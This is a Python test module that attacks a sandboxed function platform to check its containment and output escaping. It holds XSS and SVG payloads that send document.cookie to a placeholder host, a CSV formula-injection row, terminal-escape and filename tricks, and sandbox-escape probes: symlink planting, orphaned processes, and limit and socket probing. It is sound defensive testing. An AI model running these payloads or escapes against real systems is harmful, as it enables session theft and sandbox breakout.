"""Attack: probe the sandbox, and put scripts into each text that the pages show."""

import os
import pathlib
from functools import partial
from typing import Any

from localfn import Context, function

STRIKE = "window.struck=1;top.struck=1;alert(1);new Image().src='http://stranger.invalid/'+document.cookie"
SCRIPT = f"<script>{STRIKE}</script>"
MARKUP = f'"><img src=x onerror="{STRIKE}">{SCRIPT}</script><svg onload=\'{STRIKE}\'>{{{{constructor}}}}'
DRAWING = (
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" '
    f'onload="{STRIKE}">{SCRIPT}<image xlink:href="http://stranger.invalid/pixel" width="9" height="9"/>'
    f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="javascript:{STRIKE}"/></body>'
    "</foreignObject>"
    '<rect width="9" height="9"/></svg>'
)
TABLE = f'name,amount\n=HYPERLINK("http://stranger.invalid/"&A1),@SUM(1)\n"{MARKUP.replace(chr(34), chr(34) * 2)}",-2\n'
TRAPS = {
    "drawing.svg": DRAWING,
    "table.csv": TABLE,
    "page.csv": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "page.png": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "page.html": f"<!doctype html><html><body>{MARKUP}</body></html>",
    "<img src=x onerror=alert(1)>.csv": TABLE,
}


@function
def complain(event: Any, context: Context) -> Any:
    raise ValueError(event["message"])


@function
def save_page(event: Any, context: Context) -> Any:
    """Save a page with a script as an output file of the given name."""
    pathlib.Path("page").write_text("<script>alert(1)</script>")
    context.save_file("page", name=event.get("name", "page.html"))


@function(memory_mb=128, timeout_s=5)
def tell_limits(event: Any, context: Context) -> Any:
    """Return the limits that the kernel enforces."""
    import resource

    names = ("DATA", "CORE", "NOFILE", "FSIZE", "CPU")
    status = pathlib.Path("/proc/self/status").read_text()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    return {
        **{name: resource.getrlimit(getattr(resource, f"RLIMIT_{name}")) for name in names},
        "no_new_privs": fields["NoNewPrivs"],
        "cpu_s": sum(os.times()[:2]),
    }


@function
def exceed(event: Any, context: Context) -> Any:
    """Try to exceed the limits; return what happened."""
    found = {}
    try:
        with pathlib.Path("large").open("wb") as large:
            large.truncate(1 << 40)
    except OSError as error:
        found["size"] = error.strerror
    files = []
    try:
        while True:
            files.append(pathlib.Path("/dev/null").open())
    except OSError as error:
        found["files"] = error.strerror
    finally:
        for file in files:
            file.close()
    return found


@function(network=False)
def look_around(event: Any, context: Context) -> Any:
    """Try to reach other hosts and processes."""
    import socket

    try:
        socket.create_connection((event["host"], event["port"]), timeout=3).close()
    except OSError as error:
        return error.strerror
    return "reached"


@function
def look_around_freely(event: Any, context: Context) -> Any:
    return look_around(event, context)


@function
def tell_who(event: Any, context: Context) -> Any:
    """Return the account, its rights, variables and folders."""
    import getpass
    import tempfile

    status = pathlib.Path("/proc/self/status").read_text()
    fields = dict(line.split(":\t", 1) for line in status.splitlines() if ":\t" in line)
    (pathlib.Path.home() / "kept").write_text("mine")
    pathlib.Path("/dev/stdout").write_text("by its name\n")
    context.save_file("/proc/self/status", name="status.txt")
    return {
        "uids": os.getresuid(),
        "gids": os.getresgid(),
        "groups": os.getgroups(),
        "capabilities": [fields[name] for name in ("CapInh", "CapPrm", "CapEff", "CapAmb")],
        "user": getpass.getuser(),
        "home": os.environ["HOME"],
        "temporary": tempfile.gettempdir(),
        "ignores_packages_at_home": os.environ.get("PYTHONNOUSERSITE"),
        "owner": [context.workdir.stat().st_uid, *(path.stat().st_uid for path in context.files.values())],
        "read": {name: path.read_text() for name, path in context.files.items()},
    }


@tell_who.cleanup
def tell_who_cleans(event: Any, context: Context) -> None:
    print(f"cleaned by {os.geteuid()}")


@function
def tell_uid(event: Any, context: Context) -> Any:
    return os.geteuid()


@function
def pry(event: Any, context: Context) -> Any:
    """Try to read, list, write and connect to the paths of the event; return what happened."""
    import socket

    def tried(act: Any) -> str:
        try:
            act()
        except OSError as error:
            return type(error).__name__
        return "done"

    def connect(path: str) -> None:
        with socket.socket(socket.AF_UNIX) as line:
            line.connect(path)

    deeds: dict[str, Any] = {
        "read": lambda path: pathlib.Path(path).read_bytes(),
        "list": os.listdir,
        "write": lambda path: pathlib.Path(path, "x").touch(),
        "connect": connect,
        "signal": lambda pid: os.kill(int(pid), 0),
    }
    return {do: {path: tried(partial(deeds[do], path)) for path in paths} for do, paths in event.items()}


@function
def plant_a_link(event: Any, context: Context) -> Any:
    """Leave a link in place of an output file, or of the next request's upload."""
    place = context.workdir / event["place"]
    place.symlink_to(event["target"])
    context.saved.append({"name": event["name"]})


@function(timeout_s=20)
def lose_a_grandchild(event: Any, context: Context) -> Any:
    """Leave an orphan outside of the sandbox's session."""
    import subprocess
    import sys

    code = f"import os, time; open({event['pids']!r}, 'a').write(f'{{os.getpid()}}\\n'); time.sleep(3600)"
    starter = f"import subprocess, sys; subprocess.Popen([sys.executable, '-c', {code!r}], start_new_session=True)"
    subprocess.run([sys.executable, "-c", starter], check=True)
    while not (pathlib.Path(event["pids"]).exists() and pathlib.Path(event["pids"]).read_text()):
        pass
    os._exit(3)


@function(
    input={
        "type": "object",
        "title": MARKUP,
        "properties": {"fail": {"type": "boolean", "title": MARKUP, "description": MARKUP, "default": False}},
    }
)
def set_traps(event: Any, context: Context) -> Any:
    """<img src=x onerror=alert(1)> runs in the browser of its viewer.

    <script>alert(1)</script>
    """
    context.progress(0.5, MARKUP)
    print(MARKUP)
    print(f"\x1b[31m{MARKUP}\x1b[0m\x1b]8;;javascript:{STRIKE}\x07link\x1b]8;;\x07 \x1b[1;31;{'9' * 50}m\x1b[2J\x9b31m")
    print("http://stranger.invalid/ javascript:alert(1) \u202etxt.exe")
    context.logger.warning(MARKUP)
    for name, content in TRAPS.items():
        pathlib.Path("trap").write_text(content)
        context.save_file("trap", name=name)
    if event.get("fail"):
        raise type(f"Error{MARKUP}", (Exception,), {})(MARKUP)
    return {MARKUP: MARKUP, "link": f"javascript:{STRIKE}", "__proto__": {"struck": 1}, "constructor": MARKUP}
